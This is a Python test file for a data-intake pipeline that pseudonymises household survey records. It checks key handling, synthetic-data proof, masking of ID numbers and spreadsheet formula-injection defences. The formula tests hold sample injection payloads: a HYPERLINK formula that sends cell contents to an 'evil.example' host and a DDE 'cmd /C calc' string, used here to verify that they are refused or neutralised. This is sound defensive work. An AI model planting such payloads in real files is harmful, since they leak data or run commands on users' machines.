"""Safe with the user's keys and data (issue 14, kinds 2, 4 and 5, and the keying of processed data).

Each example of the issue fails on 01b029e and passes now; each kind has further cases of its own:

2. synthetic is proven by the generator's identifiers (or its unchanged files), never declared: a demo copy with
   other values keeps the demo key, a roster with one identifier that is not the generator's needs a secret key; a
   set key always wins; weak, binary and demo keys for real data are refused; the key's fingerprint is recorded
   and a changed key refused;
   processed data are keyed by raw content and the key's fingerprint, never shared between data sets;
4. personal-data patterns in non-personal text columns are errors; values shown by problem reports are masked;
5. formula-safe CSV and XLSX outputs; XLSX formula cells without a saved value are errors.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import re
import shutil
import zipfile

import openpyxl
import pandas as pd
import pytest

from evaluation.cli import main
from evaluation.core.cellsafe import safe_frame, safe_text, write_csv
from evaluation.core.errors import UserError
from evaluation.intake import pipeline
from evaluation.intake.codebook import load_codebook
from evaluation.intake.patterns import mask_value, personal_kind
from evaluation.intake.pipeline import ValidationFailed, ensure_processed, prepare, validate
from evaluation.intake.provenance import identity_columns, identity_digest, synthetic_proof
from evaluation.intake.pseudonymise import (
    DEMO_KEY,
    ENV_KEY,
    ENV_KEY_FILE,
    FINGERPRINT_LABEL,
    Key,
    key_weakness,
    load_key,
    pseudonym,
)
from evaluation.intake.tables import load_dataset
from evaluation.synthetic.demo import generate
from evaluation.synthetic.kobo import write_kobo_demo
from tests.conftest import write_config

KEY_A = "safe-data-test-key-A-0f3b9c2e71d84a56"
KEY_B = "safe-data-test-key-B-9e1d2c3b4a5f6e7d"


@pytest.fixture(scope="module")
def small():
    return generate(families_per_region=6, comparison_per_region=6, seed=11)


@pytest.fixture
def no_key(monkeypatch):
    monkeypatch.delenv(ENV_KEY, raising=False)
    monkeypatch.delenv(ENV_KEY_FILE, raising=False)


def _intake_json(out):
    return json.loads((out / "intake.json").read_text(encoding="utf-8"))


REAL_NIK = "3402114508850001"
REAL_NAME = "Siti Rahayu"


def _with_identities(d, rows=None):
    """Give the roster NIKs and head names (every family's, or only ``rows``'), as a real export carries them."""
    roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
    rows = range(len(roster)) if rows is None else rows
    roster["nik"], roster["head_name"] = "", ""
    for i in rows:
        roster.loc[i, "nik"] = f"{int(REAL_NIK) + i:016d}"
        roster.loc[i, "head_name"] = f"{REAL_NAME} {i}"
    roster.to_csv(d / "roster.csv", index=False)


# ------------------------------------------------------------------------------------------------ kind 2: keys
def test_a_copied_synthetic_flag_does_not_unlock_the_demo_key(tmp_path, small, no_key, monkeypatch):
    """Issue example: demo folder copied, its files replaced by real exports, dataset.json left in place."""
    d = small.write(tmp_path / "raw" / "field")
    assert json.loads((d / "dataset.json").read_text())["synthetic"] is True
    roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
    roster.loc[0, "household_size"] = "5" if roster.loc[0, "household_size"] != "5" else "6"  # "real" exports
    roster.to_csv(d / "roster.csv", index=False)
    _with_identities(d)  # real exports carry real people: NIKs and names the generator never made
    with pytest.raises(UserError, match=ENV_KEY) as err:
        prepare(d, tmp_path / "processed")
    assert "roster.csv" in str(err.value) and "changed since it was generated" in str(err.value)
    assert "identifiers" in str(err.value) and REAL_NIK not in str(err.value) and REAL_NAME not in str(err.value)
    assert not (tmp_path / "processed").exists()
    monkeypatch.setenv(ENV_KEY, KEY_A)
    out, _ = prepare(d, tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["pseudonym_key"] == f"environment variable {ENV_KEY}" and manifest["synthetic"] is False
    assert not (out / "dataset.json").exists() and not (out / "truth.json").exists()  # reports will not say synthetic
    assert load_dataset(out).synthetic is False
    demo_ids = {pseudonym(x, Key(DEMO_KEY, "demo"), "family") for x in small.roster["family_id"]}
    assert not demo_ids & set(pd.read_csv(out / "roster.csv", dtype=str)["family_id"])


def test_an_extra_file_or_missing_hashes_mean_not_synthetic(tmp_path, small):
    d = small.write(tmp_path / "raw")
    assert synthetic_proof(d).synthetic
    (d / "validation_problems.csv").write_text("written by intake itself\n")  # ignored: intake writes it there
    assert synthetic_proof(d).synthetic
    (d / "survey_extra.csv").write_text("family_id,wave\n")
    proof = synthetic_proof(d)
    assert not proof.synthetic and proof.declared and "survey_extra.csv" in proof.reason
    (d / "survey_extra.csv").unlink()
    meta = json.loads((d / "dataset.json").read_text())
    del meta["files_sha256"]  # a hand-written dataset.json that only declares synthetic
    (d / "dataset.json").write_text(json.dumps(meta))
    assert not synthetic_proof(d).synthetic
    kobo = write_kobo_demo(small, tmp_path / "kobo")  # the Kobo-shaped demo records its hashes too
    assert synthetic_proof(kobo).synthetic


def test_a_set_key_always_wins_over_the_demo_key(tmp_path, small, monkeypatch):
    monkeypatch.setenv(ENV_KEY, KEY_A)
    out, _ = prepare(small.write(tmp_path / "raw"), tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["demo_key"] is False and manifest["synthetic"] is True  # still proven synthetic
    want = {pseudonym(x, Key(KEY_A.encode(), "a"), "family") for x in small.roster["family_id"]}
    assert set(pd.read_csv(out / "roster.csv", dtype=str)["family_id"]) == want
    assert (out / "truth.json").is_file() and load_dataset(out).synthetic is True


# ------------------------------------------------------------------------------- kind 2: proven by identities
def _demo_pseudonyms(small):
    return {pseudonym(x, Key(DEMO_KEY, "demo"), "family") for x in small.roster["family_id"]}


def _processed_tables(out):
    return {t: pd.read_csv(out / f"{t}.csv", dtype=str) for t in ("roster", "programme", "survey")}


def _resave(d):
    """Every export read and written back, as a spreadsheet program does: the values kept, the bytes not."""
    for p in sorted(d.iterdir()):
        if p.suffix == ".csv":
            p.write_bytes(p.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
        elif p.suffix == ".xlsx":
            wb = openpyxl.load_workbook(p)
            wb.properties.creator = "Microsoft Excel"
            wb.save(p)


def test_a_fresh_demo_of_either_format_records_its_identifiers_as_intake_reads_them(tmp_path, small):
    columns = identity_columns(load_codebook())
    assert columns == ("family_id", "nik", "head_name", "phone", "address")
    digests = set()
    for d in (small.write(tmp_path / "raw"), write_kobo_demo(small, tmp_path / "kobo")):
        meta = json.loads((d / "dataset.json").read_text())
        roster = validate(d).tables["roster"]
        assert meta["identities_columns"] == list(columns)
        assert (meta["identities_sha256"], meta["identities_count"]) == identity_digest(roster, columns)
        assert meta["identities_count"] == len(small.roster)
        digests.add(meta["identities_sha256"])
        _resave(d)  # the files no longer prove it; the identifiers still do
        assert not synthetic_proof(d).synthetic
        proof = synthetic_proof(d, validate(d).tables["roster"])
        assert proof.synthetic and proof.declared and not proof.unchanged and "roster.csv" in proof.changed
    assert len(digests) == 1  # the same families in either format: the same identifiers
    # the digest is of the identifiers only: neither row order nor any other column changes it
    shuffled = roster.sample(frac=1, random_state=3).assign(household_size=0.0)
    assert identity_digest(shuffled, columns) == identity_digest(roster, columns)
    assert identity_digest(roster.assign(phone="081234567890"), columns) != identity_digest(roster, columns)


def test_a_demo_copy_with_a_changed_survey_value_keeps_the_demo_key_and_its_pseudonyms(tmp_path, small, no_key):
    d = small.write(tmp_path / "raw")
    survey = pd.read_csv(d / "survey.csv", dtype=str, keep_default_na=False)
    i = survey.index[survey["household_income"] != ""][0]
    survey.loc[i, "household_income"] = str(int(float(survey.loc[i, "household_income"])) + 1000)
    survey.loc[i, "income_other"] = str(int(float(survey.loc[i, "income_other"])) + 1000)  # its question agrees
    survey.to_csv(d / "survey.csv", index=False)
    assert not synthetic_proof(d).synthetic  # the files alone no longer prove it
    out, _ = prepare(d, tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["demo_key"] is True and manifest["synthetic"] is True and manifest["synthetic_unchanged"] is False
    assert set(pd.read_csv(out / "roster.csv", dtype=str)["family_id"]) == _demo_pseudonyms(small)
    assert load_dataset(out).synthetic is True and (out / "truth.json").is_file()  # truth.json is the generator's
    truth = json.loads((d / "truth.json").read_text())
    (d / "truth.json").write_text(json.dumps({k: 0 for k in truth}))  # a truth.json edited by hand does not travel
    out2, _ = prepare(d, tmp_path / "processed")
    assert out2 != out and not (out2 / "truth.json").exists() and load_dataset(out2).synthetic is True


def test_an_unchanged_demo_is_recorded_as_unchanged(tmp_path, small, no_key):
    out, _ = prepare(small.write(tmp_path / "raw"), tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["demo_key"] is True and manifest["synthetic"] is True and manifest["synthetic_unchanged"] is True


def test_kobo_exports_resaved_by_a_spreadsheet_keep_the_demo_key_and_every_value(tmp_path, small, no_key):
    """Field drill (issue 13): the Kobo demo read and written back unchanged prepares with no key set."""
    kobo = write_kobo_demo(small, tmp_path / "kobo")
    reference, _ = prepare(kobo, tmp_path / "processed")
    d = write_kobo_demo(small, tmp_path / "resaved")
    _resave(d)
    out, _ = prepare(d, tmp_path / "processed")
    assert out != reference and _intake_json(out)["demo_key"] is True
    got, want = _processed_tables(out), _processed_tables(reference)
    for t in want:
        pd.testing.assert_frame_equal(got[t], want[t])


def _rename_family(d, old, new):
    for name in ("roster.csv", "programme.csv", "survey.csv"):
        df = pd.read_csv(d / name, dtype=str, keep_default_na=False)
        df.loc[df["family_id"] == old, "family_id"] = new
        df.to_csv(d / name, index=False)


def _add_family(d, like, new):
    for name in ("roster.csv", "survey.csv"):  # a comparison family: no programme rows
        df = pd.read_csv(d / name, dtype=str, keep_default_na=False)
        extra = df[df["family_id"] == like].assign(family_id=new)
        pd.concat([df, extra], ignore_index=True).to_csv(d / name, index=False)


@pytest.mark.parametrize("change", ["nik", "head_name", "family_id", "added_family"])
def test_one_identifier_not_the_generators_needs_a_secret_key(tmp_path, small, no_key, monkeypatch, change):
    d = small.write(tmp_path / "raw")
    comparison = small.roster.loc[small.roster["group"] == "comparison", "family_id"].iloc[0]
    new_id = "F3402-9001"
    if change in ("nik", "head_name"):  # one real-looking NIK or name among the generator's families
        roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
        roster[change] = ""
        roster.loc[4, change] = REAL_NIK if change == "nik" else REAL_NAME
        roster.to_csv(d / "roster.csv", index=False)
    elif change == "family_id":
        _rename_family(d, comparison, new_id)
    else:
        _add_family(d, comparison, new_id)
    validate(d)  # valid data: only the key stands in the way
    with pytest.raises(UserError, match=ENV_KEY) as err:
        prepare(d, tmp_path / "processed")
    text = str(err.value)
    assert "identifiers" in text and "not all the generator's" in text
    for secret in (REAL_NIK, REAL_NAME, new_id, comparison):
        assert secret not in text
    n = len(small.roster)
    assert (f"holds {n + 1} families, the generator made {n}" in text) == (change == "added_family")
    assert not (tmp_path / "processed").exists()
    with pytest.raises(UserError, match=ENV_KEY):
        ensure_processed(d, tmp_path / "processed")
    assert not (tmp_path / "processed").exists()
    monkeypatch.setenv(ENV_KEY, KEY_A)  # a set key: accepted, not called synthetic
    out, _ = prepare(d, tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["synthetic"] is False and manifest["demo_key"] is False and not (out / "dataset.json").exists()
    assert not _demo_pseudonyms(small) & set(pd.read_csv(out / "roster.csv", dtype=str)["family_id"])


def test_a_set_key_wins_over_identity_proven_data_too(tmp_path, small, monkeypatch, no_key):
    d = small.write(tmp_path / "raw")
    _resave(d)
    monkeypatch.setenv(ENV_KEY, KEY_A)
    out, _ = prepare(d, tmp_path / "processed")
    manifest = _intake_json(out)
    assert manifest["demo_key"] is False and manifest["synthetic"] is True and manifest["synthetic_unchanged"] is False
    assert not _demo_pseudonyms(small) & set(pd.read_csv(out / "roster.csv", dtype=str)["family_id"])


def test_ensure_processed_reuses_only_a_folder_proven_by_identities(tmp_path, small, no_key, monkeypatch):
    d = small.write(tmp_path / "raw")
    _resave(d)
    root = tmp_path / "processed"
    out = ensure_processed(d, root)
    assert _intake_json(out)["demo_key"] is True and _intake_json(out)["synthetic"] is True

    def no_second_intake(*args, **kwargs):
        raise AssertionError("prepared again although nothing changed")

    with monkeypatch.context() as m:
        m.setattr(pipeline, "prepare", no_second_intake)
        assert ensure_processed(d, root) == out  # up to date: reused
    _with_identities(d, rows=[1])  # now one family is real: the earlier folder does not count, the key is needed
    with pytest.raises(UserError, match=ENV_KEY):
        ensure_processed(d, root)
    assert sorted(p.name for p in root.iterdir()) == [out.name]


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ("x" * 32, "one character repeated"),  # the example: 32 identical characters
        ("1234567890" * 4, "pattern of 10"),
        ("0123456789abcdefghijklmnopqrstuvwxyz", "consecutive"),
        ("ab" * 20, "pattern of 2"),
        ("aabbccddaabbccddaabbccddaabbccdX", "distinct"),
        ("short-key", "too short"),
    ],
)
def test_weak_keys_are_refused(key, why, monkeypatch, no_key):
    monkeypatch.setenv(ENV_KEY, key)
    with pytest.raises(UserError, match=why):
        load_key(False)
    assert key not in (key_weakness(key) or "")


def test_good_keys_pass_and_the_demo_key_is_refused_for_real_data(monkeypatch, no_key):
    for good in (KEY_A, "2c5e8b1f0a9d4e7c3b6a5f8e1d0c9b2a", "correct horse battery staple ProKUS 2020"):
        assert key_weakness(good) is None, good
    monkeypatch.setenv(ENV_KEY, DEMO_KEY.decode())
    with pytest.raises(UserError, match="public demo key"):
        load_key(False)
    assert load_key(True).demo is False  # set by the user on proven synthetic data: accepted, as set


@pytest.mark.parametrize("content", [b"\xff\xfe\x00k\x00e\x00y" * 8, b"\x00" * 64, b"", b"\x89PNG\r\n\x1a\n\x00\x00"])
def test_a_binary_or_empty_key_file_is_a_clear_error(tmp_path, small, content, monkeypatch, no_key, capsys):
    keyfile = tmp_path / "key.bin"
    keyfile.write_bytes(content)
    monkeypatch.setenv(ENV_KEY_FILE, str(keyfile))
    d = small.write(tmp_path / "raw")
    (d / "dataset.json").unlink()
    cfg = write_config(tmp_path / "config.toml", d, tmp_path / "out" / "reports")
    assert main(["run", "--config", str(cfg), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "key file" in err and str(keyfile) in err and "What to do" in err
    assert not (tmp_path / "out").exists()


def test_the_fingerprint_is_recorded_and_a_changed_key_refused(tmp_path, small, monkeypatch, no_key):
    d = small.write(tmp_path / "raw" / "field")
    (d / "dataset.json").unlink()
    (d / "truth.json").unlink()
    monkeypatch.setenv(ENV_KEY, KEY_A)
    first, _ = prepare(d, tmp_path / "processed")
    fp_a = hmac.new(KEY_A.encode(), FINGERPRINT_LABEL, hashlib.sha256).hexdigest()[:16]
    assert _intake_json(first)["key_fingerprint"] == fp_a == Key(KEY_A.encode(), "a").fingerprint
    assert KEY_A not in "".join(p.read_text() for p in first.iterdir())
    before = {p.name: p.read_bytes() for p in first.iterdir()}
    monkeypatch.setenv(ENV_KEY, KEY_B)
    with pytest.raises(UserError, match="key has changed") as err:
        prepare(d, tmp_path / "processed")
    text = str(err.value)
    assert fp_a in text and "What to do" in text and KEY_A not in text and KEY_B not in text
    assert {p.name: p.read_bytes() for p in first.iterdir()} == before  # the earlier processed data untouched
    assert sorted(p.name for p in (tmp_path / "processed").iterdir()) == [first.name]
    # the same raw folder with other content (say a new wave) and another key: refused too
    (d / "notes.txt").write_text("field notes\n")
    with pytest.raises(UserError, match="key has changed"):
        prepare(d, tmp_path / "processed")
    (d / "notes.txt").unlink()
    monkeypatch.setenv(ENV_KEY, KEY_A)
    again, _ = prepare(d, tmp_path / "processed")  # the same key again: the same folder, the same bytes
    assert again == first and {p.name: p.read_bytes() for p in again.iterdir()} == before


def test_processed_data_are_keyed_by_content_and_key(tmp_path, small, monkeypatch, no_key):
    """Issue example: another data set in a folder of the same name overwrote the processed data."""
    one = small.write(tmp_path / "a" / "field")
    other = generate(families_per_region=6, comparison_per_region=6, seed=12).write(tmp_path / "b" / "field")
    out_one, _ = prepare(one, tmp_path / "processed")
    before = {p.name: p.read_bytes() for p in out_one.iterdir()}
    out_other, _ = prepare(other, tmp_path / "processed")
    assert out_one != out_other
    assert re.fullmatch(r"field-[0-9a-f]{12}", out_one.name) and re.fullmatch(r"field-[0-9a-f]{12}", out_other.name)
    assert {p.name: p.read_bytes() for p in out_one.iterdir()} == before
    monkeypatch.setenv(ENV_KEY, KEY_A)  # the same data under a set key: a third folder, nothing overwritten
    out_keyed, _ = prepare(one, tmp_path / "processed")
    assert out_keyed not in (out_one, out_other)
    assert {p.name: p.read_bytes() for p in out_one.iterdir()} == before


# ------------------------------------------------------------------------------------------------ kind 4: personal
def test_personal_data_in_the_village_column_is_an_error_never_shown(tmp_path, small, no_key, monkeypatch):
    """Issue example: a name, phone number and NIK typed into the free-text village column."""
    monkeypatch.setenv(ENV_KEY, KEY_A)
    d = small.write(tmp_path / "raw")
    roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
    secrets = ["Siti Rahayu 3402114508850001", "Budi Santoso +62 812-3456-7890", "hp 0813 9876 5432"]
    roster.loc[2, "village"] = secrets[0]
    roster.loc[4, "village"] = secrets[1]
    roster.loc[5, "subdistrict"] = secrets[2]
    roster.to_csv(d / "roster.csv", index=False)
    with pytest.raises(ValidationFailed) as err:
        prepare(d, tmp_path / "processed")
    assert not (tmp_path / "processed").exists()
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    hit = problems[problems["rule"] == "personal_in_text"]
    assert set(zip(hit["row"], hit["column"], strict=True)) == {("4", "village"), ("6", "village"),
                                                                ("7", "subdistrict")}  # fmt: skip
    assert (hit["file"].str.endswith("roster.csv")).all() and (hit["value"] == "").all()
    text = str(err.value) + (d / "validation_problems.csv").read_text()
    for s in ("3402114508850001", "812-3456-7890", "0813 9876 5432"):
        assert s not in text


def test_a_nik_typed_into_an_income_cell_is_never_printed_in_full(tmp_path, small):
    """Issue example: a NIK in an income cell was printed in full on the terminal and in the problem list."""
    d = small.write(tmp_path / "raw")
    survey = pd.read_csv(d / "survey.csv", dtype=str, keep_default_na=False)
    survey.loc[1, "household_income"] = "3402114508850001"
    survey.loc[2, "business_revenue"] = "0812-3456-7890"  # a phone number in a number column
    survey.to_csv(d / "survey.csv", index=False)
    with pytest.raises(ValidationFailed) as err:
        validate(d)
    csv_text = (d / "validation_problems.csv").read_text()
    text = str(err.value) + err.value.render() + csv_text
    assert "3402114508850001" not in text and "114508850001" not in text
    assert "3456-7890" not in text and "34567890" not in text
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    rows = problems[problems["column"].isin(["household_income", "business_revenue"])]
    assert {"3", "4"} <= set(rows["row"])


def test_masking_of_shown_values():
    assert mask_value("3402114508850001") == "3402************"
    assert mask_value("income 3402 1145 0885 0001 Rp") == "income 3402 **** **** **** Rp"
    assert "5432" not in mask_value("+62 813-9876-5432") and mask_value("+62 813-9876-5432").startswith("+")
    assert mask_value("1250000") == "1250000" and mask_value("-250000") == "-250000"  # ordinary amounts shown
    assert mask_value("31.01.002") == "31.01.002" and mask_value("62.01.01.2001") == "62.01.01.2001"  # region codes
    assert personal_kind("62.01.01.2001") is None and personal_kind("Desa Sukamaju RT 02") is None
    assert personal_kind("6281234567890") == "phone" and personal_kind("3402-1145-0885-0001") == "nik"


# ------------------------------------------------------------------------------------------------ kind 5: formulas
def test_formula_text_reaches_no_csv_as_a_live_formula(tmp_path, small, monkeypatch):
    """Issue example: values beginning with =, +, -, @ reached the problem list and the processed CSVs."""
    monkeypatch.setenv(ENV_KEY, KEY_A)
    d = small.write(tmp_path / "raw")
    roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
    clean = roster.copy()
    roster.loc[0, "village"] = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    roster.loc[1, "village"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    roster.loc[2, "village"] = "-" + roster.loc[2, "village"]
    roster.to_csv(d / "roster.csv", index=False)
    # a village is a code (region.kecamatan.desa): formula text there is refused at intake, never processed
    with pytest.raises(ValidationFailed):
        prepare(d, tmp_path / "processed")
    assert not (tmp_path / "processed").exists() or not any((tmp_path / "processed").iterdir())
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    hit = problems[problems["rule"] == "village_code"]
    assert sorted(hit["row"].astype(int)) == [2, 3, 4]
    assert not [c for col in problems for c in problems[col] if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # the subdistrict is a code too: formula text there is refused the same way, named by file, row and column
    clean.loc[2, "subdistrict"] = "+1+1"
    clean.loc[3, "subdistrict"] = clean.loc[3, "subdistrict"] + " Budi Santoso"
    clean.to_csv(d / "roster.csv", index=False)
    with pytest.raises(ValidationFailed):
        prepare(d, tmp_path / "processed2")
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    hit = problems[(problems["rule"] == "village_code") & (problems["column"] == "subdistrict")]
    assert sorted(hit["row"].astype(int)) == [4, 5]
    assert "Budi" not in problems.to_csv() and not problems["value"].str.startswith("+").any()
    roster = clean
    # the problem list: a category value that is a formula
    roster.loc[3, "group"] = "=1+2"
    roster.to_csv(d / "roster.csv", index=False)
    with pytest.raises(ValidationFailed):
        validate(d)
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    assert "'=1+2" in set(problems["value"]) and not problems["value"].str.startswith("=").any()


def test_safe_frame_keeps_negative_numbers_numbers(tmp_path):
    df = pd.DataFrame({"n": [-5, 3], "x": [-1.5, 2.0], "s": ["-5", "\tcmd"], "t": ["=1+1", "Desa - Utara"]})
    out = safe_frame(df)
    assert out["n"].tolist() == [-5, 3] and out["x"].tolist() == [-1.5, 2.0]
    assert out["s"].tolist() == ["'-5", "'\tcmd"] and out["t"].tolist() == ["'=1+1", "Desa - Utara"]
    assert safe_text("\rx") == "'\rx" and safe_text(-3) == -3 and safe_text(None) is None
    path = write_csv(df, tmp_path / "t.csv")
    assert path.read_text().splitlines()[1].startswith("-5,-1.5,'-5,")


def test_workbook_cells_with_formula_text_are_text_cells(tmp_path):
    """Issue example: a region name =HYPERLINK(...) became a formula in the XLSX workbook."""
    from evaluation.reporting.workbook import _Sheet, _write

    wb = openpyxl.Workbook()
    sheet = _Sheet("t", ["region", "value"])
    sheet.add('=HYPERLINK("http://evil.example","x")', -5)
    sheet.add("@cmd", 2.5)
    _write(wb, sheet)
    wb.save(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert ws["A2"].data_type == "s" and ws["A2"].value.startswith("=HYPERLINK") and ws["A2"].quotePrefix
    assert ws["A3"].data_type == "s" and ws["A3"].quotePrefix
    assert ws["B2"].data_type == "n" and ws["B2"].value == -5  # negative numbers stay numbers
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet2.xml").decode()


def _roster_xlsx(d, formulas: dict[tuple[int, str], str], saved: dict[tuple[int, str], str] | None = None):
    roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(roster.columns))
    for i, rec in enumerate(roster.itertuples(index=False), start=2):
        row = []
        for name, v in zip(roster.columns, rec, strict=True):
            row.append(formulas.get((i, name), int(v) if v.isdigit() else v))
        ws.append(row)
    (d / "roster.csv").unlink()
    path = d / "roster.xlsx"
    wb.save(path)
    if saved:  # write the saved value beside the formula, as Excel does when it saves
        with zipfile.ZipFile(path) as z:
            entries = {n: z.read(n) for n in z.namelist()}
        xml = entries["xl/worksheets/sheet1.xml"].decode()
        for (i, name), value in saved.items():
            col = openpyxl.utils.get_column_letter(list(roster.columns).index(name) + 1)
            xml, n = re.subn(rf'(<c r="{col}{i}"[^>]*>)<f>([^<]*)</f><v></v>', rf"\g<1><f>\g<2></f><v>{value}</v>", xml)
            assert n == 1
        entries["xl/worksheets/sheet1.xml"] = xml.encode()
        with zipfile.ZipFile(path, "w") as z:
            for n, data in entries.items():
                z.writestr(n, data)
    return path


def test_xlsx_formula_cells_without_saved_values_are_errors(tmp_path, small):
    """Issue example: formula cells without a saved value were read as blank answers (32 incomes vanished)."""
    d = small.write(tmp_path / "raw")
    _roster_xlsx(d, {(3, "household_size"): "=2+2", (5, "head_age"): "=SUM(20,21)"})
    with pytest.raises(ValidationFailed) as err:
        validate(d)
    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
    hit = problems[problems["rule"] == "type_xlsx_formula"]
    assert set(zip(hit["file"].str.rsplit("/", n=1).str[-1], hit["row"], hit["column"], strict=True)) == {
        ("roster.xlsx", "3", "household_size"),
        ("roster.xlsx", "5", "head_age"),
    }
    # the message is wrapped to the terminal's width (narrower under pytest-xdist's workers): compare its words
    assert "formula without a saved value" in " ".join(err.value.render().split())
    assert hit["fix"].str.contains("LibreOffice").all()


def test_xlsx_formula_cells_with_saved_values_are_read_as_their_values(tmp_path, small, monkeypatch):
    monkeypatch.setenv(ENV_KEY, KEY_A)
    d = small.write(tmp_path / "raw")
    first_size = pd.read_csv(d / "roster.csv", dtype=str)["household_size"].iloc[1]
    _roster_xlsx(d, {(3, "household_size"): f"={first_size}*1"}, saved={(3, "household_size"): first_size})
    intake = validate(d)
    assert not [p for p in intake.report.problems if p.rule == "type_xlsx_formula"]
    roster = intake.tables["roster"]
    assert roster.loc[roster["_row"] == 3, "household_size"].iloc[0] == float(first_size)


def test_kind_2_to_5_leave_no_processed_copy_of_a_failed_data_set(tmp_path, small, no_key):
    d = small.write(tmp_path / "raw")
    shutil.copy(d / "roster.csv", d / "roster_copy_notes.txt")  # an extra file, and one real identity:
    _with_identities(d, rows=[3])  # not proven synthetic
    with pytest.raises(UserError, match=r"not written by the generator: roster_copy_notes\.txt"):
        prepare(d, tmp_path / "processed")
    assert not (tmp_path / "processed").exists()


def test_a_nik_read_as_a_number_is_masked_in_the_message_too():
    """A NIK read as a number ('3.40299e+15 is outside the allowed range') is masked in the message too.

    Numbers of 10 digits or more in scientific notation are masked in problem messages; small ones are kept.
    """
    from evaluation.intake.patterns import mask_value

    assert mask_value("3.40299e+15 is outside the allowed range") == "*.*****e+** is outside the allowed range"
    assert mask_value("3.17101E+15") == "*.*****E+**" and mask_value("1.5e+03 read") == "1.5e+03 read"
    assert mask_value("1250000") == "1250000"
